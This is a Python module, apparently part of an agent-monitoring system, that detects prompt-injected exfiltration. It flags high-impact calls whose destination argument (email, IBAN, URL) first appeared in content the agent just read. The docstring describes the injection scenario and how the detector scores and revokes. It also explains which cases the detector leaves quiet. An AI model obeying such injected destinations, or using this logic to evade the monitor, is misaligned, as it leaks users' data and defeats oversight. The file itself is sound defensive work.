"""injected_destination: an egress argument that came from what the agent just read.

Why: a prompt-injected agent sends data to a destination its instructions did
not name — an address in an email body, an IBAN in a review, a link on a web
page. The destination looks ordinary (gmail.com, a normal bank), so domain
novelty misses it; what gives it away is *where it came from*. Gateways put
digests of the entity-like values each result carried in
``tool_call.result_digests`` (:mod:`monitor.core.values`); this detector
digests a high-impact call's arguments the same way and fires when one of them
matches a result of the last ``hijack.provenance_window_calls`` calls (default
8) of the same session (else task) and appeared neither in the arguments of the
session's first call (the stand-in for the user's request) nor as an argument
of the agent's earlier high-impact calls (its own history of destinations).

Not every value an agent passes on is a destination: a customer-service agent
reads a reservation and quite rightly passes its id and the user's id to the
same booking system (``get_user_details`` → ``update_reservation_flights``), or
writes them into a hand-off summary. So a matching value only counts when it
looks like *egress*: it sits in a destination-like argument (``to``,
``recipient``, ``guest_ids``, ``to_account_number``, ``url``, ... —
:data:`monitor.core.detectors.hijack.DEST_WORDS`), or it *is* an address (an
e-mail, URL, IBAN, IP, phone or account number, wherever it sits), or it came
from a result of another server or of a ``read_untrusted`` call (content from
outside the system it is being passed back to). An object id round-tripping
within one server is not enough. The alert says which of the three it was.

Example (default charter settings)::

    read_email(id=7)             -> result carries "eve@freemail.example"
    send_email(to="eve@freemail.example", body=...)   # high: injected_destination

whereas ``send_email(to="bob@corp.example")`` after the session's first call
named bob, or after the agent mailed bob last week, is quiet. Severity high: the
decision step revokes (credential, else session) under an ``enforce`` charter.

State (``AgentState.sections["injected_destination"]``), under 3 KiB:
``[session key, first-call digests, recent results, history]``; digests are
kept as their first 8 hex digits (a collision needs 2^32 tries per pair); recent
results are ``[call index, event id, digests, source]`` within the window
(``source``: the reading call's server, or ``1`` for a ``read_untrusted`` call), at most
:data:`MAX_RECENT` digests in all; the history keeps the newest
:data:`MAX_HISTORY` destination digests.
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

from monitor.core.detectors.base import CallContext, Finding, register
from monitor.core.detectors.hijack import (
    HijackDetector,
    arg_digests,
    dest_key,
    high_impact,
    is_address,
    rules,
    section,
    session_key,
)
from monitor.core.detectors.hijack import target as call_scope
from monitor.core.state import AgentState
from monitor.core.values import value_digest, values_in

NAME = "injected_destination"
SHORT = 8  # hex digits of a digest kept in state
MAX_FIRST = 32
MAX_RECENT = 96
MAX_HISTORY = 96
MAX_KEYS = 16  # argument keys examined one by one (for the reason); the rest as one
MAX_SERVER = 64  # characters of a source server's name kept in state
#: why a matching value counts as egress (reported in the alert's reason and details)
_WHY = {
    "argument": "a destination argument",
    "address": "an address value",
    "source": "read from another server or untrusted content",
}

_SKEY, _FIRST, _RECENT, _HIST = range(4)


def _short(digests: list[str]) -> list[str]:
    return [d[:SHORT] for d in digests]


def _fresh() -> list[Any]:
    return ["", [], [], []]


@register
class InjectedDestination(HijackDetector):
    name = NAME
    section = NAME
    size = 4

    def on_call(self, ctx: CallContext, st: AgentState) -> Sequence[Finding]:
        c = ctx.call
        sec = section(st, NAME, _fresh, 4)
        skey = session_key(ctx)
        first_call = False
        if sec[_SKEY] != skey or not isinstance(sec[_RECENT], list):
            sec[_SKEY] = skey
            first = [d for _, ds in arg_digests(c, MAX_KEYS) for d in ds] if c.args else []
            sec[_FIRST] = list(dict.fromkeys(first))[:MAX_FIRST]
            sec[_RECENT] = []
            first_call = True
        recent: list[list[Any]] = sec[_RECENT]
        window = rules(ctx.charter).provenance_window_calls
        if recent and recent[0][0] < ctx.index - window:
            recent[:] = [r for r in recent if r[0] >= ctx.index - window]
        out: list[Finding] = []
        if c.args and not first_call and high_impact(ctx):
            per_key = arg_digests(c, MAX_KEYS)
            hist = sec[_HIST]
            known = set(sec[_FIRST]).union(hist)
            sources: dict[str, tuple[int, str]] = {}
            foreign: set[str] = set()  # digests read from another server or untrusted content
            for r in recent:
                idx, eid, ds = r[0], r[1], r[2]
                other = len(r) > 3 and (r[3] == 1 or r[3] != c.server[:MAX_SERVER])
                for d in ds:
                    sources[d] = (idx, eid)
                    if other:
                        foreign.add(d)
            hits = [(k, d) for k, ds in per_key for d in ds if d in sources and d not in known]
            egress = self._egress(c.args, hits, foreign) if hits else {}
            if egress:
                out.append(self._finding(ctx, [h for h in hits if h in egress], sources, egress))
            else:
                fresh = [d for _, ds in per_key for d in ds if d not in known]
                if fresh:
                    hist.extend(dict.fromkeys(fresh))
                    del hist[: max(0, len(hist) - MAX_HISTORY)]
        if c.result_digests:
            source: str | int = 1 if "read_untrusted" in ctx.classes else c.server[:MAX_SERVER]
            recent.append([ctx.index, c.event_id, _short(c.result_digests), source])
            total = sum(len(r[2]) for r in recent)
            while total > MAX_RECENT and len(recent) > 1:
                total -= len(recent.pop(0)[2])
        return out

    @staticmethod
    def _egress(
        args: dict[str, Any], hits: list[tuple[str, str]], foreign: set[str]
    ) -> dict[tuple[str, str], str]:
        """The hits that look like egress, each with why (a key of :data:`_WHY`).

        Only called when something matched, so the dearer look at the values
        themselves (is it an address?) runs on a handful of calls.
        """
        out: dict[tuple[str, str], str] = {}
        addresses: set[str] | None = None
        for k, d in hits:
            if dest_key(k):
                out[(k, d)] = "argument"
            elif d in foreign:
                out[(k, d)] = "source"
            else:
                if addresses is None:
                    addresses = {value_digest(t)[:SHORT] for t in values_in(args) if is_address(t)}
                if d in addresses:
                    out[(k, d)] = "address"
        return out

    def _finding(
        self,
        ctx: CallContext,
        hits: list[tuple[str, str]],
        sources: dict[str, tuple[int, str]],
        egress: dict[tuple[str, str], str],
    ) -> Finding:
        c = ctx.call
        why = sorted({egress[h] for h in hits})
        keys = sorted({k for k, _ in hits})
        src = sorted({sources[d] for _, d in hits})
        src_ids = [eid for _, eid in src]
        scope, creds = call_scope(ctx)
        window = rules(ctx.charter).provenance_window_calls
        return Finding(
            NAME,
            "hijack.provenance_window_calls",
            f"an egress argument must not come from what the last {window} calls read",
            "high",
            f"{c.agent_id} called {c.server}/{c.tool} with {len(hits)} value(s) in argument(s) "
            f"{', '.join(repr(k) for k in keys)} that first appeared in the result of "
            f"{len(src_ids)} call(s) it had just made, not in its request or history "
            f"(egress because: {'; '.join(_WHY[w] for w in why)}): "
            "a destination taken from content it read (prompt injection)",
            [*dict.fromkeys(src_ids), c.event_id],
            score=1.0,
            revoke=scope,
            credential_ids=creds,
            task_id=c.task_id,
            session_id=c.session_id,
            dedup=f"provenance:{c.event_id}",
            details={
                "values": len(hits),
                "arguments": ",".join(keys)[:256],
                "calls_back": ctx.index - src[-1][0],
                "egress": ",".join(why),
            },
        )
